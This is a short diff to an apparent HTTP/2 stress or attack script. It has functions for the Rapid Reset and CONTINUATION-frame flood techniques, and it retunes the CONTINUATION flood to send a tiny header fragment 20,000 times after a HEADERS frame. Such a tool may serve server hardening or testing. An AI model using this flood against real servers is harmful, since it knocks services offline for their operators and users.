@@ -31,8 +31,8 @@ def rapid_reset():
 
 
 def continuation():
-    more = http2.pack(http2.CONTINUATION, 0, 1, b"\0\1x\1y" * 3000)
-    return http2.pack(http2.HEADERS, 0, 1, head()) + more * 64
+    more = http2.pack(http2.CONTINUATION, 0, 1, b"\0\1x\1y")
+    return http2.pack(http2.HEADERS, 0, 1, head()) + more * 20000
 
 
 def main(mode, port, seconds):
